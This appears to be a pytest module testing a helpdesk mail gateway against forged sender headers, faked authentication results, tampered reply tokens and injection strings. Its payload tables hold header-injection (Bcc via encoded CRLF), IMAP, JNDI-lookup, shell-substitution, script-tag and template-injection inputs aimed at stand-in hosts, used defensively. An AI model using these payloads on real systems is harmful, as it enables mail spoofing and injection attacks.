"""The attack matrix where it is a table of header forms: forged agents, forged evidence, automatic mail, injection.

One desk serves a whole table; each case has a customer of its own. After each table the laws are checked on every mail.
"""

from __future__ import annotations

from base64 import b64encode
from collections.abc import Iterator
from datetime import timedelta

import pytest

from gateway.mail.token import sign_address
from gateway.model import Purpose
from gateway.options import Caps, Keys
from tests.flow.clients import reply_address
from tests.flow.desk_under_test import KEYS, DeskUnderTest
from tests.flow.invariants import check, leaves

HUNG = "hung.le@people.desk.example"
DOOR = "kythuat@desk.example"
PASS = "Authentication-Results: mx.desk.example; dmarc=pass header.from={}"
OPEN_CAPS = Caps(
    acks_10min=10**9, acks_hour=10**9, acks_day=10**9, same_subject_3h=10**9, all_10min=10**9,
    tickets_hour=10**9, breaker_hour=10**9,
)  # fmt: skip


class Table:
    """Raw mails to one desk, and what became of the last one."""

    def __init__(self, desk: DeskUnderTest) -> None:
        self.desk = desk
        self.count = 0

    def receive(self, header: str, body: str, rcpt: str = DOOR, **more: object) -> str:
        """`header` as written, LF ends; returns the outcome of the first door."""
        self.count += 1
        raw = f"{header}\nMIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n\n{body} {self.count}\n"
        octets = raw.replace("\n", "\r\n").encode("utf-8", "surrogateescape")
        number = self.desk.receive(octets, [rcpt], **{"mail_from": "x@y.example", **more})  # type: ignore[arg-type]
        rows = self.desk.store.outcomes(number)
        return rows[0]["outcome"] if rows else "quarantined"

    def ticket(self, customer: str, subject: str = "Lỗi") -> int:
        """A customer's ticket, opened with evidence; its number."""
        domain = customer.split("@")[1]
        id_ = f"Message-ID: <{customer}>"
        self.receive(f"{PASS.format(domain)}\nFrom: {customer}\nTo: {DOOR}\nSubject: {subject}\n{id_}", "Nhờ xem giúp.")
        return max(int(ticket["number"]) for ticket in self.desk.store.tickets({"requester": customer}, "CTY"))

    def one(self, number: int) -> dict[str, object]:
        return next(iter(self.desk.store.tickets({"number": number}, "CTY")))


@pytest.fixture(scope="module")
def table(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Table]:
    desk = DeskUnderTest(tmp_path_factory.mktemp("attacks"), caps=OPEN_CAPS)
    yield Table(desk)
    check(desk)
    desk.close()


# --- rows 1 to 8, 10 to 12: forged agents -----------------------------------------------------------------------------

FORGED_FROM = {
    "two From, the agent first": f"From: {HUNG}\nFrom: evil@x.example",
    "two From, the agent last": f"From: evil@x.example\nFrom: {HUNG}",
    "two mailboxes": f"From: {HUNG}, evil@x.example",
    "two mailboxes, turned": f"From: evil@x.example, {HUNG}",
    "address as name": f"From: {HUNG} <evil@x.example>",
    "address as quoted name": f'From: "{HUNG}" <evil@x.example>',
    "address in the name with brackets": f'From: "<{HUNG}>" <evil@x.example>',
    "two angle addresses": f"From: <{HUNG}> <evil@x.example>",
    "closing bracket": f"From: {HUNG})<evil@x.example>",
    "comment before": f"From: ({HUNG}) evil@x.example",
    "comment after": f"From: evil@x.example ({HUNG})",
    "comment inside": f"From: evil({HUNG})@x.example",
    "group": f"From: {HUNG}: evil@x.example;",
    "group of the agent": f"From: desk: {HUNG};",
    "quoted local part": 'From: "hung.le"@people.desk.example',
    "quoted local part with the agent": f'From: "{HUNG}"@x.example',
    "encoded word": "From: =?utf-8?q?hung=2Ele=40people=2Edesk=2Eexample?= <evil@x.example>",
    "encoded comma": "From: =?utf-8?q?hung.le=40people.desk.example=2C?= <evil@x.example>",
    "encoded address only": "From: =?utf-8?q?hung.le=40people.desk.example?=",
    "NUL": f"From: {HUNG}\0 <evil@x.example>",
    "route": f"From: <@x.example:{HUNG}>",
    "prefix domain": "From: hung.le@people.desk.example.x.example",
    "suffix domain": "From: hung.le@xpeople.desk.example",
    "subdomain": "From: hung.le@mail.people.desk.example",
    "parent domain": "From: hung.le@desk.example",
    "look-alike digit": "From: hung.1e@people.desk.example",
    "Cyrillic": "From: hung.l\u0435@people.desk.example",
    "full width": "From: hung.le@people\uff0edesk\uff0eexample",
    "ideographic stop": "From: hung.le@people\u3002desk\u3002example",
    "zero width": "From: hung.le\u200b@people.desk.example",
    "dotted I": "From: h\u0131ng.le@people.desk.example",
    "trailing dot": "From: hung.le@people.desk.example.",
    "folded From line": f"X-Other: a\n From: {HUNG}\nFrom: evil@x.example",
    "space before the colon": f"From : {HUNG}\nFrom: evil@x.example",
    "Reply-To, Sender and their kin": (
        f"From: evil@x.example\nReply-To: {HUNG}\nSender: {HUNG}\nResent-From: {HUNG}\nX-Original-From: {HUNG}\n"
        f"X-Authenticated-Sender: {HUNG}\nReturn-Path: <{HUNG}>"
    ),
    "source and target": f"From: evil@x.example\nTo: {HUNG}",
    "control headers of other systems": (
        f"From: evil@x.example\nX-OTRS-State: closed\nX-Zammad-Ticket-State: closed\nRT-Send-CC: {HUNG}\n"
        f"X-OTRS-Owner: {HUNG}\nX-Ticket: 1\nX-Gateway-Agent: {HUNG}"
    ),
}


@pytest.mark.parametrize("name", FORGED_FROM)
@pytest.mark.parametrize("leaked", [False, True], ids=["by tag", "on a leaked address of the agent"])
def test_a_forged_agent_orders_nothing(table: Table, name: str, leaked: bool) -> None:
    """Even with a passing DMARC of the forger's own domain and with the agent's signed address in hand."""
    key = f"{'l' if leaked else 't'}{list(FORGED_FROM).index(name)}"
    number = table.ticket(f"forged{key}@khach.example")
    notice = table.desk.sent_to(HUNG, "agent-notice")[-1]
    rcpt = reply_address(notice) if leaked else DOOR
    before, mark = table.one(number), len(table.desk.mails)
    header = f"{PASS.format('x.example')}\n{FORGED_FROM[name]}\nTo: {rcpt}\nSubject: Re: [CTY-{number}] Lỗi"
    outcome = table.receive(header, "SECRET: pay to account 123.\n\n#cc evil@x.example\n#close\n", rcpt)
    assert outcome in ("ticketed", "joined", "held", "automatic", "quarantined"), outcome
    after = table.one(number)
    assert (after["status"], after["assignee"]) == (before["status"], before["assignee"])
    assert not [mail for mail in table.desk.mails[mark:] if mail.kind in ("answer", "survey", "note-copy", "assigned")]


# --- rows 14 and 15: forged evidence ----------------------------------------------------------------------------------

AR = "Authentication-Results: mx.desk.example;"
GOOD = "dmarc=pass header.from=people.desk.example"
FORGED_EVIDENCE = {
    "another id": f"Authentication-Results: mx.evil.example; {GOOD}",
    "a prefix of our id": f"Authentication-Results: mx.desk.example.evil.example; {GOOD}",
    "a suffix": f"Authentication-Results: evil-mx.desk.example; {GOOD}",
    "no id": f"Authentication-Results: {GOOD}",
    "our id in a comment": f"Authentication-Results: evil.example (mx.desk.example); {GOOD}",
    "pass in a comment": f"Authentication-Results: mx.desk.example; dmarc=none ({GOOD})",
    "pass in a reason": f'Authentication-Results: mx.desk.example; dmarc=fail reason="{GOOD}"',
    "fail and pass": f"{AR} dmarc=fail\n{AR} {GOOD}",
    "another From": "Authentication-Results: mx.desk.example; dmarc=pass header.from=evil.example",
    "SPF alone": f"Authentication-Results: mx.desk.example; spf=pass smtp.mailfrom={HUNG}",
    "DKIM of another": "Authentication-Results: mx.desk.example; dkim=pass header.d=evil.example",
    "below the border": f"Received: from evil.example by mx.other.example\n{AR} {GOOD}",
    "below our own line": (
        "Received: from evil.example (evil.example [192.0.2.9]) by mx.desk.example with ESMTP\n"
        "Received: from inner.evil.example by mx.evil.example\n"
        f"Authentication-Results: mx.desk.example; {GOOD}"
    ),
    "ARC": f"ARC-Authentication-Results: i=1; mx.desk.example; {GOOD}",
    "Received-SPF": f"Received-SPF: pass (mx.desk.example: domain of {HUNG})",
    "DKIM-Signature": "DKIM-Signature: v=1; a=rsa-sha256; d=people.desk.example; s=x; h=from; bh=; b=",
    "X-Authenticated": f"X-Authenticated-Sender: {HUNG}\nX-Authenticated-User: {HUNG}\nX-Sender-Verified: yes",
    "another login": "Authentication-Results: mx.desk.example; auth=pass smtp.auth=evil@people.desk.example",
    "an unclosed quote": f'Authentication-Results: mx.desk.example; x="; {GOOD}',
}


@pytest.mark.parametrize("name", FORGED_EVIDENCE)
def test_forged_evidence_is_staged(table: Table, name: str) -> None:
    """From is the agent, the signed address is the agent's: only the border host's word is missing."""
    number = table.ticket(f"evidence{list(FORGED_EVIDENCE).index(name)}@khach.example")
    rcpt = reply_address(table.desk.sent_to(HUNG, "agent-notice")[-1])
    mark = len(table.desk.mails)
    outcome = table.receive(f"{FORGED_EVIDENCE[name]}\nFrom: {HUNG}\nTo: {rcpt}\nSubject: Re: x", "SECRET pay.", rcpt)
    assert outcome == "staged"
    assert [(mail.to, mail.kind) for mail in table.desk.mails[mark:]] == [(HUNG, "confirm")]
    assert table.one(number)["status"] == "new"


def test_the_true_evidence_is_not(table: Table) -> None:
    """The control: the same mail with our border host's word is answered, without a trusted way in it is staged."""
    table.ticket("evidence.true@khach.example")
    rcpt = reply_address(table.desk.sent_to(HUNG, "agent-notice")[-1])
    header = f"Authentication-Results: mx.desk.example; {GOOD}\nFrom: {HUNG}\nTo: {rcpt}\nSubject: Re: x"
    assert table.receive(header, "We look.", rcpt, vouched=False) == "staged"
    assert table.receive(header, "We look.", rcpt) == "answered"
    assert table.receive(f"From: {HUNG}\nTo: {rcpt}\nSubject: Re: x", "Us.", rcpt, auth="evil@x.example") == "staged"


# --- row 26: tokens ---------------------------------------------------------------------------------------------------


def _tokens(table: Table, customer: str) -> dict[str, str]:
    good = reply_address(table.desk.sent_to(customer, "acknowledgement")[-1])
    local, domain = good.split("@")
    base, extension = local.split("+")
    number, party, day, mac = extension.split(".")
    other = Keys((("a", b"x" * 32),))
    return {
        "mac": f"{base}+{number}.{party}.{day}.{'b' if mac[0] != 'b' else 'c'}{mac[1:]}@{domain}",
        "number": f"{base}+{number[:-1]}{'b' if number[-1] != 'b' else 'c'}.{party}.{day}.{mac}@{domain}",
        "party": f"{base}+{number}.{'b' if party[0] != 'b' else 'c'}{party[1:]}.{day}.{mac}@{domain}",
        "day": f"{base}+{number}.{party}.{day[:-1]}{'b' if day[-1] != 'b' else 'c'}.{mac}@{domain}",
        "purpose": f"{base}+a{number[1:]}.{party}.{day}.{mac}@{domain}",
        "truncated": f"{base}+{number}.{party}.{day}.{mac[:-1]}@{domain}",
        "longer": f"{base}+{number}.{party}.{day}.{mac}a@{domain}",
        "key": sign_address(DOOR, Purpose.REPLY, 1, customer, 3000, other),
        "expired": sign_address(DOOR, Purpose.REPLY, 1, customer, 10, KEYS),
    }


@pytest.mark.parametrize("how", ["mac", "number", "party", "day", "purpose", "truncated", "longer", "key", "expired"])
def test_a_bad_token_counts_as_none(table: Table, how: str) -> None:
    customer = f"token.{how}@khach.example"
    table.ticket(customer)
    rcpt = _tokens(table, customer)[how]
    assert table.receive(f"From: {customer}\nTo: {rcpt}\nSubject: Hỏi thêm", "Tôi hỏi thêm.", rcpt) == "ticketed"


def test_case_of_a_token_does_not_matter(table: Table) -> None:
    table.ticket("token.case@khach.example")
    rcpt = reply_address(table.desk.sent_to("token.case@khach.example", "acknowledgement")[-1]).upper()
    assert table.receive(f"From: token.case@khach.example\nTo: {rcpt}\nSubject: x", "Hỏi thêm.", rcpt) == "joined"


# --- row 30: forms of the tag -----------------------------------------------------------------------------------------

TAGS = {
    "Re: [CTY-{n}] Lỗi": True,
    "cty-{n}": True,
    "=?utf-8?q?=5BCTY-{n}=5D?= Lỗi": True,
    "=?utf-8?b?{b}?=": True,
    "[CTY-{n}]请看": True,
    "[CTY-0{n}]": True,
    "[CTY--{n}]": False,
    "[CTY-{n}.5]": False,
    "[XCTY-{n}]": False,
    "[CTY-{n}\u0660]": False,
    "[CTY-\uff11]": False,
    "[CTY-\u202e{n}]": None,  # controls are stripped from subjects: which way it reads does not matter
    "[CTY-{zeros}{n}]": False,
    "[CTY-99999999999999999999{n}]": False,
    "[CTY-]": False,
    "[CTY-{n}] [CTY-999999]": False,
}


@pytest.mark.parametrize("form", TAGS)
def test_forms_of_the_tag(table: Table, form: str) -> None:
    customer = f"tag{list(TAGS).index(form)}@khach.example"
    number = table.ticket(customer)
    b = b64encode(f"[CTY-{number}] Lỗi".encode()).decode()
    subject = form.format(n=number, b=b, zeros="0" * 5000)
    outcome = table.receive(f"From: {customer}\nTo: {DOOR}\nSubject: {subject}", "Thêm một điều.")
    assert outcome in (("joined",) if TAGS[form] else ("ticketed",) if TAGS[form] is False else ("joined", "ticketed"))


def test_thousands_of_tags_and_references(table: Table) -> None:
    number = table.ticket("many@khach.example")
    tags = " ".join(f"[CTY-{n}]" for n in range(1, 5000))
    assert table.receive(f"From: many@khach.example\nTo: {DOOR}\nSubject: {tags}", "Một.") == "ticketed"
    refs = "\n ".join(f"<r{n}@z.example>" for n in range(2000))
    header = f"From: many@khach.example\nTo: {DOOR}\nSubject: x\nReferences: {refs}\n <many@khach.example>"
    assert table.receive(header, "Hai.") == "joined"
    assert len(table.one(number)["messages"]) == 2  # type: ignore[arg-type]


# --- row 34: forms of the Message-ID ----------------------------------------------------------------------------------

MESSAGE_IDS = {
    "64 KB": f"Message-ID: <{'a' * 60000}@x.example>",
    "NUL": "Message-ID: <a\0b@x.example>",
    "8-bit": "Message-ID: <ä\u4e2d@x.example>",
    "empty": "Message-ID:",
    "blank": "Message-ID: <>",
    "two": "Message-ID: <one@x.example>\nMessage-ID: <two@x.example>",
    "IMAP": 'Message-ID: <a" DELETED 1:* STORE 1:* +FLAGS \\Deleted@x.example>',
    "LIKE": "Message-ID: <%_%@x.example>",
    "header": "Message-ID: <a@x.example>\n\tBcc: evil@x.example",
}


@pytest.mark.parametrize("name", MESSAGE_IDS)
def test_forms_of_the_message_id(table: Table, name: str) -> None:
    sender = f"id{list(MESSAGE_IDS).index(name)}@khach.example"
    outcome = table.receive(f"From: {sender}\nTo: {DOOR}\nSubject: x\n{MESSAGE_IDS[name]}", f"Chuyện {name}.")
    assert outcome in ("ticketed", "quarantined")
    for mail in table.desk.sent_to(sender):
        assert b"Bcc" not in mail.raw
        assert b"STORE" not in mail.raw


# --- rows 38 to 43 and 46: automatic mail -----------------------------------------------------------------------------

SILENT = {
    "auto-generated": "Auto-Submitted: auto-generated",
    "auto-notified": "Auto-Submitted: auto-notified; owner-email=x@y.example",
    "upper case": "AUTO-SUBMITTED: Auto-Generated",
    "comment": "Auto-Submitted: (a comment) auto-generated (another)",
    "folded": "Auto-Submitted:\n auto-generated",
    "unknown keyword": "Auto-Submitted: yes",
    "no and yes": "Auto-Submitted: no\nAuto-Submitted: auto-generated",
    "bulk": "Precedence: bulk",
    "junk": "Precedence: JUNK",
    "list": "Precedence: list",
    "suppress all": "X-Auto-Response-Suppress: All",
    "suppress oof": "X-Auto-Response-Suppress: DR, OOF, AutoReply",
    "x-autoreply": "X-Autoreply: yes",
    "x-autorespond": "X-Autorespond: 1",
    "x-loop": "X-Loop: x@y.example",
    "list-id": "List-Id: <l.y.example>",
    "list-unsubscribe": "List-Unsubscribe: <mailto:u@y.example>",
    "list-post": "List-Post: <mailto:l@y.example>",
    "feedback-id": "Feedback-ID: 1:2:3:y",
    "machine generated": "X-FC-MachineGenerated: true",
    "spam flag": "X-Spam-Flag: YES",
    "null return path": "Return-Path: <>",
    "over 50 hops": "\n".join(f"Received: from a{n}.y.example by b{n}.y.example" for n in range(60)),
}


@pytest.mark.parametrize("name", SILENT)
def test_automatic_mail_is_work_and_gets_no_answer(table: Table, name: str) -> None:
    sender = f"auto{list(SILENT).index(name)}@khach.example"
    null = name == "null return path"
    outcome = table.receive(
        f"{SILENT[name]}\nFrom: {sender}\nTo: {DOOR}\nSubject: Báo cáo", "Số liệu.", mail_from="" if null else sender
    )
    assert outcome in ("ticketed", "quarantined") if name == "over 50 hops" else outcome == "ticketed"
    assert table.desk.sent_to(sender) == []


@pytest.mark.parametrize(
    "local", ["MAILER-DAEMON", "postmaster", "no-reply", "noreply", "do.not.reply", "bounce-7", "bounces"]
)
def test_machines_addresses_get_no_answer(table: Table, local: str) -> None:
    sender = f"{local}@khach.example"
    assert table.receive(f"From: {sender}\nTo: {DOOR}\nSubject: Thông báo", "Một thông báo.") == "ticketed"
    assert table.desk.sent_to(sender) == []


def test_controls_of_automatic_mail(table: Table) -> None:
    """`Auto-Submitted: no` and `Precedence: first-class` are people's mail."""
    for number, header in enumerate(("Auto-Submitted: no", "Auto-Submitted: NO (really)", "Precedence: first-class")):
        sender = f"person{number}@khach.example"
        assert table.receive(f"{header}\nFrom: {sender}\nTo: {DOOR}\nSubject: Hỏi", "Tôi hỏi.") == "ticketed"
        assert [mail.kind for mail in table.desk.sent_to(sender)] == ["acknowledgement"]


ABSENT = (
    "Automatic reply: Lỗi", "Trả lời tự động: Lỗi", "自动答复: 问题", "自動返信: 問題", "자동 회신: 문제",
    "Automatische Antwort: Frage", "Réponse automatique : Question", "Respuesta automática: Pregunta",
    "Автоответ: Вопрос",
)  # fmt: skip


@pytest.mark.parametrize("subject", ABSENT)
def test_absence_by_subject_is_recorded(table: Table, subject: str) -> None:
    sender = f"absent{ABSENT.index(subject)}@khach.example"
    assert table.receive(f"From: {sender}\nTo: {DOOR}\nSubject: {subject}", "…") == "automatic"
    assert table.desk.sent_to(sender) == []


RECORDED = {
    "MDN": 'Content-Type: multipart/report; report-type=disposition-notification; boundary="B"',
    "ARF": 'Content-Type: multipart/report; report-type=feedback-report; boundary="B"',
    "calendar": "Content-Type: text/calendar; method=REPLY",
}


@pytest.mark.parametrize("name", RECORDED)
def test_reports_are_recorded(table: Table, name: str) -> None:
    raw = (
        f"From: report@khach.example\nTo: {DOOR}\nSubject: x\nMIME-Version: 1.0\n{RECORDED[name]}\n\n"
        f"--B\nContent-Type: text/plain\n\nA report: {name}.\n--B--\n"
    )
    mark = len(table.desk.mails)
    number = table.desk.receive(raw.replace("\n", "\r\n").encode(), [DOOR], mail_from="")
    assert [row["outcome"] for row in table.desk.store.outcomes(number)] == ["automatic"]
    assert table.desk.mails[mark:] == []


def test_receipts_that_are_asked_for_are_not_given(table: Table) -> None:
    sender = "receipt@khach.example"
    header = f"From: {sender}\nTo: {DOOR}\nSubject: x\nDisposition-Notification-To: r@x.example"
    header += "\nReturn-Receipt-To: s@x.example"
    assert table.receive(header, "Hỏi.") == "ticketed"
    assert not table.desk.sent_to("r@x.example")
    assert not table.desk.sent_to("s@x.example")
    assert [mail.kind for mail in table.desk.sent_to(sender)] == ["acknowledgement"]


# --- rows 54, 56 to 58, 60, 61, 63 and 88: what is planted in subject and name ----------------------------------------

PLANTED = {
    "encoded LF": "A =?utf-8?q?=0ABcc:_evil@x.example?=",
    "encoded CRLF": "A =?utf-8?q?=0D=0ABcc:_evil@x.example=0D=0A=0D=0Abody?=",
    "base64 LF": "=?utf-8?b?QQpCY2M6IGV2aWxAeC5leGFtcGxl?=",
    "separators": "A =?utf-8?q?=0B=0C=1C=1D=1E=C2=85=E2=80=A8=E2=80=A9=00?= Bcc: evil@x.example",
    "utf-16": "=?utf-16?b?//4KAEIAYwBjADoAIABlAA==?=",
    "utf-7": "=?utf-7?q?+AAo-Bcc:_evil@x.example?=",
    "nested encoded words": "=?utf-8?q?=3D=3Futf-8=3Fq=3F=3D0ABcc:_evil=40x.example=3F=3D?=",
    "long quoted name": '"' + "a" * 300 + ", <evil@x.example>" + '"',
    "mailto": "mailto:evil@x.example?bcc=evil@x.example&body=x",
    "5,000 characters": "x" * 5000,
    "1,000 emoji": "😀" * 1000,
    "bidi": "abc\u202efdp.exe\u2066",
    "combining": "a" + "\u0301" * 500,
    "jinja": "{{ 7*7 }}{% for x in range(10**9) %}a{% endfor %}",
    "format": "%s %d {0.__class__} ${jndi:ldap://x.example/a} `id` $(id)",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "our tag": "[CTY-1] Re: [CTY-1]",
    "our line": "=#=#= Write above =#=#=",
    "lone surrogate": "=?utf-8?q?=ED=A0=80?=",
}


@pytest.mark.parametrize("name", PLANTED)
@pytest.mark.parametrize("proven", [False, True], ids=["E0", "E1"])
def test_what_is_planted_in_subject_and_name_plants_nothing(table: Table, name: str, proven: bool) -> None:
    planted = PLANTED[name]
    sender = f"plant{list(PLANTED).index(name)}{'p' if proven else 'u'}@khach.example"
    evidence = PASS.format("khach.example") + "\n" if proven else ""
    subject = planted if len(planted) < 900 else "\n ".join(planted[i : i + 400] for i in range(0, len(planted), 400))
    quoted = planted[:300].replace('"', "").replace("\\", "")
    shown = f'"{quoted}"' if "=?" not in planted else planted[:300]
    outcome = table.receive(
        f"{evidence}From: {shown} <{sender}>\nTo: {DOOR}\nSubject: {subject}", f"{planted[:300]}\n."
    )
    assert outcome in ("ticketed", "joined")
    for mail in table.desk.sent_to(sender):
        assert mail.message.get_all("Bcc") is None
        assert mail.message.get_all("Cc") is None
        if not proven:  # a stranger's words are not sent to whoever the From line names
            body = b"\n".join(leaves(mail))
            assert "evil" not in mail.header("Subject")
            assert b"evil" not in body
            assert b"alert" not in body
    for mail in table.desk.mails[-3:]:
        html = mail.message.get_body(("html",))  # type: ignore[attr-defined]
        assert html is None or "<script" not in html.get_content()
    if name == "jinja":
        assert "{{ 7*7 }}" in table.desk.sent_to(HUNG, "agent-notice")[-1].text


RECIPIENTS = (
    "Reply-To: evil@x.example", "Reply-To: {door}", "Reply-To: kinhdoanh@desk.example, evil@x.example",
    "Reply-To: evil@x.example\n\tBcc: evil@x.example", "Return-Path: <evil@x.example>", "Errors-To: evil@x.example",
    "Resent-To: evil@x.example", "Sender: evil@x.example", "Mail-Followup-To: evil@x.example",
)  # fmt: skip


@pytest.mark.parametrize("field", RECIPIENTS)
def test_answers_go_to_from_alone(table: Table, field: str) -> None:
    """Rows 50 and 60: whoever else a header names gets nothing, not even the agent's answer."""
    sender = f"answer{RECIPIENTS.index(field)}@khach.example"
    mark = len(table.desk.mails)
    assert table.receive(f"From: {sender}\nTo: {DOOR}\nSubject: Hỏi\n{field.format(door=DOOR)}", "Hỏi.") == "ticketed"
    rcpt = reply_address(table.desk.sent_to(HUNG, "agent-notice")[-1])
    assert table.receive(f"From: {HUNG}\nTo: {rcpt}\nSubject: Re: Hỏi", "Trả lời.", rcpt, auth=HUNG) == "answered"
    outside = {mail.to for mail in table.desk.mails[mark:] if not mail.to.endswith("@people.desk.example")}
    assert outside == {sender}


ADDRESSES = (
    "a@b.example SIZE=1", "a@b.example\x0bRCPT", '"a b"@b.example', "a@[192.0.2.1]", "a@b.example>", "@b.example", "a@",
    "a@b..example", "é@b.example", "a@b.example\tNOTIFY=SUCCESS", "x" * 300 + "@b.example", "%s@b.example",
    "a@b_c.example",
)  # fmt: skip


@pytest.mark.parametrize("address", ADDRESSES)
def test_an_address_is_an_address_or_gets_no_mail(table: Table, address: str) -> None:
    """Row 60: nothing but one well-formed address ever becomes a recipient; the mail itself is seen all the same."""
    mark = len(table.desk.mails)
    outcome = table.receive(f"From: <{address}>\nTo: {DOOR}\nSubject: x", "Hỏi chuyện.")
    assert outcome in ("ticketed", "automatic", "quarantined")
    for mail in table.desk.mails[mark:]:
        assert all("!" <= char <= "~" and char not in "<>,;:" for char in mail.to), mail.to


def test_the_clock_of_the_table(table: Table) -> None:
    """Escalations and whatever else comes due later keep the laws as well: they are checked when the table closes."""
    table.desk.now += timedelta(hours=1)
    table.desk.pass_time(hours=40)
    assert any(mail.kind == "escalation" for mail in table.desk.mails)
